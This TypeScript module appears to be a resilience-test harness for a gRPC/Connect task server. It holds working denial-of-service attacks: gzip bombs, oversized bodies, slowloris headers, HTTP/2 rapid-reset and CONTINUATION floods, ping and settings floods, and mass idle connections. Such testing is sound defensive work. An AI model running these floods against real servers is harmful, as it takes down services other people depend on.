import { once } from "node:events";
import http2 from "node:http2";
import net from "node:net";
import { gzipSync } from "node:zlib";
import { END_HEADERS, END_STREAM, frame, onStream, openPeer, postTo, TYPE } from "../../http/frames.ts";

/*
 * What a program can send to the port to cost the server memory or time. `node attacks.ts NAME URL [TOKEN] [TASK]` runs one
 * attack in a process of its own, and holds what it has opened for HOLD_MS, so that the server's memory can be read meanwhile.
 */

export interface Target {
  url: string;
  /** Token of a caller; undefined: the attacker has none. */
  token?: string | undefined;
  /** Name of a task that does not end, for streams. */
  task: string;
}

const HOLD_MS = 1500;
const RUN_TASK = "/signalman.v1.TaskService/RunTask";
const WATCH_TASK = "/signalman.v1.TaskService/WatchTask";
const HEALTH_CHECK = "/grpc.health.v1.Health/Check";
const HEALTH_WATCH = "/grpc.health.v1.Health/Watch";
const BODY_BYTES = 3_800_000;

export const ATTACKS: Record<string, (target: Target) => Promise<void>> = {
  "24 JSON bodies of 1.9 million values": async (target) => {
    const body = `{"variables":{"a":[${"0,".repeat(BODY_BYTES / 2)}0]}}`;
    await sendAll(target, 24, { "content-type": "application/json" }, body);
  },
  "24 JSON bodies of 3.8 MB in one text": async (target) => {
    const body = JSON.stringify({ variables: { a: "x".repeat(BODY_BYTES) } });
    await sendAll(target, 24, { "content-type": "application/json" }, body);
  },
  "24 binary bodies of a million values": async (target) => {
    const values = Buffer.alloc(BODY_BYTES, Buffer.from([0x0a, 2, 0x08, 0]));
    const body = lengths(values, 6, 2, 1, 3);
    await sendAll(target, 24, { "content-type": "application/proto" }, body);
  },
  "24 bombs of gzip": async (target) => {
    const zeros = gzipSync(Buffer.alloc(16 * 2 ** 20));
    const bomb = Buffer.concat(Array.from({ length: 64 }, () => zeros));
    await sendAll(target, 24, { "content-type": "application/proto", "content-encoding": "gzip" }, bomb);
  },
  "120 bodies without an end on one connection": (target) =>
    unfinished(target, RUN_TASK, { sessions: 1, streams: 120, bytes: BODY_BYTES }),
  "20,000 bodies of 60 KB without an end": (target) =>
    unfinished(target, RUN_TASK, { sessions: 200, streams: 100, bytes: 60_000 }),
  "20,000 bodies of 60 KB without an end to health": (target) =>
    unfinished(target, HEALTH_CHECK, { sessions: 200, streams: 100, bytes: 60_000 }),
  "20,000 watches of health": (target) => watches(target, HEALTH_WATCH, "", { sessions: 200, streams: 100 }),
  "30,000 watches of a task": (target) =>
    watches(target, WATCH_TASK, target.task, { sessions: 30, streams: 1000 }),
  "3,000 idle connections": async ({ url }) => {
    const sockets = await connect(url, 3000);
    await hold();
    for (const socket of sockets) socket.destroy();
  },
  "5,000 connections opened and closed": async ({ url }) => {
    for (let i = 0; i < 50; i++) for (const socket of await connect(url, 100)) socket.destroy();
  },
  "1,000 connections that send headers slowly": async ({ url }) => {
    const sockets = await connect(url, 1000);
    for (const socket of sockets) socket.write(`GET /healthz HTTP/1.1\r\nx: ${"y".repeat(8000)}`);
    await hold();
    for (const socket of sockets) socket.destroy();
  },
  "1,000 sessions of HTTP/2 that do nothing": async ({ url }) => {
    const peers = Array.from({ length: 1000 }, () => openPeer(url));
    await hold();
    for (const peer of peers) peer.socket.destroy();
  },
  "50,000 streams opened and reset": async ({ url }) => {
    const post = frame(TYPE.headers, END_HEADERS | END_STREAM, 1, postTo(RUN_TASK));
    const cancel = frame(TYPE.reset, 0, 1, Buffer.from([0, 0, 0, 8]));
    for (let session = 0; session < 25; session++) {
      using peer = openPeer(url);
      const pieces = Array.from({ length: 2000 }, (_, n) =>
        [post, cancel].map((piece) => onStream(piece, 2 * n + 1)),
      );
      await peer.write(Buffer.concat(pieces.flat()));
      await settled(peer.socket);
    }
  },
  "headers that never end": ({ url }) => {
    const more = frame(
      TYPE.continuation,
      0,
      1,
      Buffer.concat([Buffer.from([0, 1, 97, 100]), Buffer.alloc(100, 98)]),
    );
    return flood(url, [frame(TYPE.headers, 0, 1, postTo(RUN_TASK)), Buffer.alloc(more.length * 1000, more)]);
  },
  "pings and settings whose answers are not read": async ({ url }) => {
    const ping = frame(TYPE.ping, 0, 0, Buffer.alloc(8));
    await flood(url, [Buffer.alloc(ping.length * 10_000, ping)]);
    const settings = frame(TYPE.settings, 0, 0);
    await flood(url, [Buffer.alloc(settings.length * 10_000, settings)]);
  },
  "19,000 small calls on 190 connections": async (target) => {
    await sessionsOf(target, 190, async (session) => {
      const calls = Array.from({ length: 100 }, () =>
        ended(post(session, target, RUN_TASK, "application/json", "{}")),
      );
      await Promise.all(calls);
    });
  },
  "20,000 calls with headers of 12 KB": async (target) => {
    const headers = Object.fromEntries(
      Array.from({ length: 12 }, (_, i) => [`x-${i}`, `${i}`.repeat(1000).slice(0, 1000)]),
    );
    await sessionsOf(target, 20, async (session) => {
      for (let i = 0; i < 10; i++) {
        const calls = Array.from({ length: 100 }, () =>
          ended(post(session, target, RUN_TASK, "application/json", "{}", headers)),
        );
        await Promise.all(calls);
      }
    });
  },
  "20,000 requests behind an open one on 10 connections": async ({ url }) => {
    const sockets = await connect(url, 10);
    const json = "content-type: application/connect+json\r\nhost: localhost\r\n";
    const watch = `POST ${HEALTH_WATCH} HTTP/1.1\r\n${json}content-length: 7\r\n\r\n\0\0\0\0\x02{}`;
    const next = `POST ${RUN_TASK} HTTP/1.1\r\n${json}content-length: 0\r\n\r\n`;
    for (const socket of sockets) socket.write(watch + next.repeat(2000));
    await hold();
    for (const socket of sockets) socket.destroy();
  },
};

/** Attacks that hold open what an authenticated caller may open: 12,000 streams. */
export const HOLDS_STREAMS: ReadonlySet<string> = new Set([
  "20,000 watches of health",
  "30,000 watches of a task",
]);

const hold = () => new Promise((resolve) => setTimeout(resolve, HOLD_MS));

/** Wraps bytes in fields with a length, the innermost first. */
function lengths(content: Buffer, ...numbers: number[]): Buffer {
  return numbers.reduce((inner, number) => {
    const head = [(number << 3) | 2];
    let rest = inner.length;
    for (; rest > 127; rest >>>= 7) head.push((rest & 127) | 128);
    return Buffer.concat([Buffer.from([...head, rest]), inner]);
  }, content);
}

const authorization = ({ token }: Target) => ({ ...(token && { authorization: `Bearer ${token}` }) });

async function sendAll(
  target: Target,
  count: number,
  headers: Record<string, string>,
  body: string | Buffer,
) {
  const all = { ...headers, ...authorization(target) };
  const send = () =>
    fetch(target.url + RUN_TASK, { method: "POST", headers: all, body }).then((answer) => answer.text());
  await Promise.allSettled(Array.from({ length: count }, send));
}

function post(
  session: http2.ClientHttp2Session,
  target: Target,
  path: string,
  type: string,
  body?: string | Buffer,
  headers: Record<string, string> = {},
): http2.ClientHttp2Stream {
  const stream = session.request({
    ":method": "POST",
    ":path": path,
    "content-type": type,
    ...headers,
    ...authorization(target),
  });
  stream.on("error", () => {}).resume();
  if (body !== undefined) stream.end(body);
  return stream;
}

const ended = (stream: http2.ClientHttp2Stream) => new Promise((resolve) => stream.once("close", resolve));

/** Opens sessions one after the other, and closes them when all are done and HOLD_MS have passed. */
async function sessionsOf(
  { url, token }: Target,
  count: number,
  use: (session: http2.ClientHttp2Session) => Promise<unknown>,
): Promise<void> {
  const open: http2.ClientHttp2Session[] = [];
  for (let i = 0; i < count; i++) {
    const session = http2.connect(url).on("error", () => {});
    open.push(session);
    const closed = new Promise((resolve) => session.once("close", resolve));
    await Promise.race([closed, new Promise((resolve) => session.once("remoteSettings", resolve))]);
    if (!session.destroyed && token !== undefined) {
      const call = post(session, { url, token, task: "" }, RUN_TASK, "application/json", "{}");
      await Promise.race([closed, ended(call)]);
    }
    if (!session.destroyed) await Promise.race([closed, use(session)]);
  }
  await hold();
  for (const session of open) session.destroy();
}

interface Load {
  sessions: number;
  streams: number;
}

const unfinished = (target: Target, path: string, { sessions, streams, bytes }: Load & { bytes: number }) => {
  const piece = Buffer.alloc(bytes, "x");
  return sessionsOf(target, sessions, async (session) => {
    for (let i = 0; i < streams; i++) post(session, target, path, "application/json").write(piece);
    await settled(session.socket);
  });
};

function watches(target: Target, path: string, name: string, { sessions, streams }: Load): Promise<void> {
  const request = Buffer.from(JSON.stringify(name === "" ? {} : { name }));
  const head = Buffer.from([0, 0, 0, 0, request.length]);
  const body = Buffer.concat([head, request]);
  return sessionsOf(target, sessions, async (session) => {
    const open = Array.from({ length: streams }, () => {
      const stream = post(session, target, path, "application/connect+json", body);
      return Promise.race([once(stream, "data"), ended(stream)]);
    });
    await Promise.all(open);
  });
}

async function connect(url: string, count: number): Promise<net.Socket[]> {
  const { hostname, port } = new URL(url);
  return Promise.all(
    Array.from({ length: count }, async () => {
      const socket = net.connect(Number(port), hostname).on("error", () => {});
      await Promise.race([once(socket, "connect"), once(socket, "close")]).catch(() => {});
      return socket.resume();
    }),
  );
}

/** Resolves when a socket takes no more bytes, or is closed. */
async function settled(socket: net.Socket): Promise<void> {
  for (let before = -1; !socket.destroyed && before !== socket.bytesWritten; ) {
    before = socket.bytesWritten;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/** Sends the last piece again and again until the server closes the connection. */
async function flood(url: string, pieces: Buffer[]): Promise<void> {
  using peer = openPeer(url);
  peer.socket.pause();
  for (const piece of pieces) await peer.write(piece);
  const last = pieces.at(-1) ?? Buffer.alloc(0);
  for (let sent = 0; !peer.socket.destroyed && sent < 64 * 2 ** 20; sent += last.length)
    await peer.write(last);
}

if (import.meta.main) {
  const [name = "", url = "", token, task = ""] = process.argv.slice(2);
  await ATTACKS[name]?.({ url, token: token || undefined, task });
  process.exit();
}
